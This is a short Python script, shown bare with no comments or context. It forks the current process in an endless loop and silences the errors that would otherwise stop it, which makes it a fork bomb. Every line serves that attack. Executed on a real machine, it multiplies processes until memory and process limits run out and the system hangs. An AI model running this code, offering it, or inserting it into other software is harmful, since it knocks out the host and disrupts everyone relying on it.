import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
